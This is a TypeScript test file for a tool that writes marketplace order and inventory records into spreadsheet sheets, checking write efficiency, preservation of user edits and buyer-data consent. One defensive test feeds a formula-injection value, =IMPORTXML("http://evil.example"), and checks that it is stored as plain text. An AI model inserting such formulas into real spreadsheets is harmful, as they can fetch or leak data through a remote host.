/** Writes records with few reads and writes, and keeps the user's additions. */
import { describe, expect, test } from 'vitest';
import { operations } from '../../src/operations/registry.ts';
import { decodeRecord } from '../../src/protocol/decode.ts';
import type { Privacy } from '../../src/protocol/fields.ts';
import type { Tree } from '../../src/protocol/parse.ts';
import { upsert } from '../../src/tables/apply.ts';
import type { Cell } from '../../src/tables/cells.ts';
import type { DeclaredRecord } from '../../src/tables/table.ts';
import { faultOf } from '../protocol/fault.ts';
import { InMemoryBook } from '../support/in-memory-book.ts';

const { orders, inventory } = operations;
type Order = DeclaredRecord<typeof orders>;
type Stock = DeclaredRecord<typeof inventory>;
const ALL: ReadonlySet<Privacy> = new Set();
const NONE: ReadonlySet<Privacy> = new Set(['buyer', 'destination']);
const THEN = Date.UTC(2025, 5, 16, 12);

function order(wire: object): Order {
  const base = {
    SellerID: 'A006',
    OrderDate: '6/15/2025 9:03:05',
    OrderTotalAmount: 19.98,
    ShipToZipCode: '00501',
  };
  return decodeRecord({ ...base, ...wire } as Tree, orders.answer.record, { withheld: ALL });
}

function stock(ItemNumber: string, AvailableQuantity: number): Stock {
  const wire = {
    ItemNumber,
    Condition: 1,
    InventoryAllocation: [{ WarehouseLocation: 'USA', AvailableQuantity }],
  };
  return { sellerId: 'A006', ...decodeRecord(wire as Tree, inventory.answer.record, { withheld: ALL }) };
}

const save = (book: InMemoryBook, records: readonly Order[], asOf = THEN, withheld = ALL) =>
  upsert(book, orders, records, withheld, asOf);
const saveStock = (book: InMemoryBook, records: readonly Stock[], asOf = THEN) =>
  upsert(book, inventory, records, ALL, asOf);

const line = { SellerPartNumber: 'A', OrderedQty: 2 };

describe('a first pull', () => {
  test('creates the sheets of all tables, with typed cells', () => {
    const book = new InMemoryBook('Asia/Tokyo');
    const counts = save(book, [
      order({
        OrderNumber: 1,
        ItemInfoList: [line, line],
        OnTimeShipDueDate: '06/18/2025',
        PackageInfoList: [],
      }),
    ]);
    expect(counts.map(({ table, added, changed }) => [table, added, changed])).toEqual([
      ['Orders', 1, 0],
      ['Order lines', 2, 0],
      ['Packages', 0, 0],
    ]);
    expect(book.rows('Orders')).toMatchObject([
      {
        'Order number': '1',
        'Order date': new Date('2025-06-15T16:03:05Z'),
        'On time ship due date': new Date('2025-06-17T15:00:00Z'),
        'Order total amount': 19.98,
        'Refund amount': '',
        'Ship to zip code': '00501',
        'As of': new Date(THEN),
        'Row key': 'A006|1',
      },
    ]);
    expect(book.rows('Order lines').map((row) => row['Row key'])).toEqual(['A006|1|A', 'A006|1|A|2']);
    expect(book.rows('Packages')).toEqual([]);
  });

  test('case 41, case 43: identifiers and hostile strings are written as plain text', () => {
    const book = new InMemoryBook();
    save(book, [order({ OrderNumber: '00017', OrderStatusDescription: '=IMPORTXML("http://evil.example")' })]);
    const { cells, formats } = book.sheet('Orders');
    const texts = cells[1]!.flatMap((cell, index) =>
      typeof cell === 'string' && cell !== '' ? [[cell, formats[1]![index]]] : [],
    );
    expect(texts).toContainEqual(['00017', '@']);
    expect(texts).toContainEqual(['=IMPORTXML("http://evil.example")', '@']);
    expect(texts.every(([, format]) => format === '@')).toBe(true);
  });

  test('creates no buyer columns without consent', () => {
    const book = new InMemoryBook();
    save(book, [order({ OrderNumber: 1, CustomerName: 'Zoe', ShipToStateCode: 'CA' })], THEN, NONE);
    const header = book.sheet('Orders').cells[0]!.join('|');
    expect(header).not.toMatch(/Customer|Ship to/);
    expect(JSON.stringify(book.sheet('Orders').cells)).not.toMatch(/Zoe|00501/);
  });
});

describe('a second pull', () => {
  const records = Array.from({ length: 50 }, (_, index) => stock(`9SI${index}`, index));

  test('of the same records writes only the new time, in one block', () => {
    const book = new InMemoryBook();
    saveStock(book, records);
    const sheet = book.sheet('Inventory');
    const before = sheet.cells.map((row) => [...row]);
    sheet.writes.length = 0;
    sheet.reads = 0;
    const [counts] = saveStock(book, records, THEN + 60_000);
    expect(counts).toMatchObject({ added: 0, changed: 0, unchanged: 50, gone: 0, cells: 50 });
    expect(sheet.reads).toBe(1);
    expect(sheet.writes).toHaveLength(1);
    const asOf = before[0]!.indexOf('As of');
    expect(sheet.cells).toEqual(
      before.map((row, index) => row.map((cell, at) => (index > 0 && at === asOf ? new Date(THEN + 60_000) : cell))),
    );
  });

  test('at the same time writes no cells', () => {
    const book = new InMemoryBook();
    saveStock(book, records);
    book.sheet('Inventory').writes.length = 0;
    expect(saveStock(book, records)[0]).toMatchObject({ unchanged: 50, cells: 0 });
    expect(book.sheet('Inventory').writes).toEqual([]);
  });

  test('case 66: finds rows by identity, in any order of arrival', () => {
    const book = new InMemoryBook();
    saveStock(book, records);
    const changed = [...records].reverse().map((record, index) => (index === 7 ? stock('9SI42', 999) : record));
    expect(saveStock(book, changed, THEN + 1)[0]).toMatchObject({ added: 0, changed: 1, unchanged: 49 });
    expect(book.rows('Inventory')[42]).toMatchObject({ 'Item number': '9SI42', 'Available quantity': 999 });
  });

  test("leaves rows unchanged that weren't returned", () => {
    const book = new InMemoryBook();
    saveStock(book, records);
    expect(saveStock(book, records.slice(0, 2), THEN + 1)[0]).toMatchObject({ unchanged: 2, gone: 0 });
    expect(book.rows('Inventory')).toHaveLength(50);
  });
});

describe('the user’s changes', () => {
  test('keep columns, notes, and sorting with their record', () => {
    const book = new InMemoryBook();
    saveStock(book, [stock('9SIA', 1), stock('9SIB', 2), stock('9SIC', 3)]);
    const sheet = book.sheet('Inventory');
    // The user inserts a first column, types notes, and reverses the row order.
    const item = sheet.cells[0]!.indexOf('Item number');
    const notes = sheet.cells.slice(1).map((row) => `note of ${String(row[item])}`);
    sheet.insertColumn(1, ['My note', ...notes]);
    const [header, ...rows] = sheet.cells;
    sheet.cells = [header!, ...rows.reverse()];
    saveStock(book, [stock('9SIA', 10), stock('9SIB', 2), stock('9SIC', 30), stock('9SID', 4)], THEN + 1);
    expect(
      book.rows('Inventory').map((row) => [row['My note'], row['Item number'], row['Available quantity']]),
    ).toEqual([
      ['note of 9SIC', '9SIC', 30],
      ['note of 9SIB', '9SIB', 2],
      ['note of 9SIA', '9SIA', 10],
      ['', '9SID', 4],
    ]);
  });

  test('a total row between add-on rows is never written, not even with its own values', () => {
    const book = new InMemoryBook();
    saveStock(book, [stock('9SIA', 1), stock('9SIB', 2)]);
    const sheet = book.sheet('Inventory');
    const total = sheet.cells[0]!.map((name) =>
      name === 'Available quantity' ? 3 : name === 'Seller ID' ? 'Total' : '',
    );
    sheet.cells.splice(2, 0, total);
    sheet.writes.length = 0;
    saveStock(book, [stock('9SIA', 10), stock('9SIB', 20)], THEN + 1);
    const rows = sheet.writes.flatMap(({ row, values }) => values.map((_, down) => row + down));
    expect(new Set(rows)).toEqual(new Set([2, 4]));
    expect(sheet.cells[2]).toEqual(total);
  });

  test('a deleted column is added again on the right', () => {
    const book = new InMemoryBook();
    saveStock(book, [stock('9SIA', 1)]);
    const sheet = book.sheet('Inventory');
    const at = sheet.cells[0]!.indexOf('Condition');
    sheet.deleteColumn(at + 1);
    saveStock(book, [stock('9SIA', 1)], THEN + 1);
    expect(sheet.cells[0]!.at(-1)).toBe('Condition');
    expect(book.rows('Inventory')).toMatchObject([{ 'Item number': '9SIA', Condition: 1, 'Available quantity': 1 }]);
  });

  test.each([
    ['without its header', (cells: Cell[][]) => cells.slice(1)],
    ['with a title above its header', (cells: Cell[][]) => [['My stock'], ...cells]],
  ])('a sheet %s is rejected before anything is written', (_, change) => {
    const book = new InMemoryBook();
    saveStock(book, [stock('9SIA', 1), stock('9SIB', 1)]);
    const sheet = book.sheet('Inventory');
    sheet.cells = change(sheet.cells);
    const before = sheet.cells.map((row) => [...row]);
    const error = faultOf(() => saveStock(book, [stock('9SIA', 2)], THEN + 1));
    expect(error).toMatchObject({ code: 'MARKET_TABLE', message: expect.stringContaining('header') });
    expect(sheet.cells).toEqual(before);
  });

  test('a sheet without its key column is rejected before anything is written', () => {
    const book = new InMemoryBook();
    saveStock(book, [stock('9SIA', 1)]);
    const sheet = book.sheet('Inventory');
    sheet.deleteColumn(sheet.cells[0]!.length);
    const before = sheet.cells.map((row) => [...row]);
    const error = faultOf(() => saveStock(book, [stock('9SIA', 2)], THEN + 1));
    expect(error.code).toBe('MARKET_TABLE');
    expect(error.message).toContain('Row key');
    expect(sheet.cells).toEqual(before);
  });
});

test("case 96: a blank buyer field doesn't overwrite the earlier value", () => {
  const book = new InMemoryBook();
  save(book, [order({ OrderNumber: 1, CustomerName: 'Zoe', ShipToCityName: 'Reno', OrderStatus: 0 })]);
  save(book, [order({ OrderNumber: 1, CustomerName: '', ShipToCityName: null, OrderStatus: 2 })], THEN + 1);
  expect(book.rows('Orders')).toMatchObject([
    { 'Customer name': 'Zoe', 'Ship to city name': 'Reno', 'Order status': 2 },
  ]);
  save(book, [order({ OrderNumber: 1, CustomerName: 'Max', OrderStatus: '' })], THEN + 2);
  expect(book.rows('Orders')).toMatchObject([{ 'Customer name': 'Max', 'Order status': '' }]);
});

test('case 87: an order returned twice in one slice is written once, with its lines', () => {
  const book = new InMemoryBook();
  const twice = order({ OrderNumber: 1, ItemInfoList: [line, line] });
  const counts = save(book, [twice, order({ OrderNumber: 2, ItemInfoList: [line] }), twice]);
  expect(counts.map(({ table, added }) => [table, added])).toEqual([
    ['Orders', 2],
    ['Order lines', 3],
    ['Packages', 0],
  ]);
  expect(book.rows('Order lines').map((row) => row['Row key'])).toEqual(['A006|1|A', 'A006|1|A|2', 'A006|2|A']);
});

test('case 84: 250 rows take one write', () => {
  const book = new InMemoryBook();
  saveStock(
    book,
    Array.from({ length: 250 }, (_, index) => stock(`9SI${index}`, index)),
  );
  expect(book.sheet('Inventory').writes).toHaveLength(1);
});

test('counts exactly the written cells', () => {
  const book = new InMemoryBook();
  const [counts] = saveStock(book, [stock('9SIA', 1), stock('9SIB', 2)]);
  const { writes } = book.sheet('Inventory');
  expect(counts!.cells).toBe(writes.reduce((sum, { values }) => sum + values.flat().length, 0));
});

describe('a nearly full workbook', () => {
  const many = Array.from({ length: 2000 }, (_, index) => stock(`9SI${index}`, 1));

  test('is rejected before any change', () => {
    const book = new InMemoryBook();
    saveStock(book, many.slice(0, 1));
    book.others = 8_990_000;
    const before = JSON.stringify(book.sheet('Inventory').cells);
    const error = faultOf(() => saveStock(book, many));
    expect(error.code).toBe('MARKET_TABLE');
    expect(error.message).toContain('no room');
    expect(JSON.stringify(book.sheet('Inventory').cells)).toBe(before);
  });

  test('accepts rows that fit, and changes to existing rows', () => {
    const book = new InMemoryBook();
    book.others = 8_900_000;
    saveStock(book, many);
    book.others = 9_900_000;
    saveStock(book, [stock('9SI0', 2)], THEN + 1);
    expect(book.rows('Inventory')[0]).toMatchObject({ 'Available quantity': 2 });
  });
});

test("headers aren't rewritten if all are in place", () => {
  const book = new InMemoryBook();
  saveStock(book, [stock('9SI1', 1)]);
  const sheet = book.sheet('Inventory');
  let named = 0;
  sheet.nameColumns = () => void named++;
  saveStock(book, [stock('9SI1', 2)]);
  expect(named).toBe(0);
});
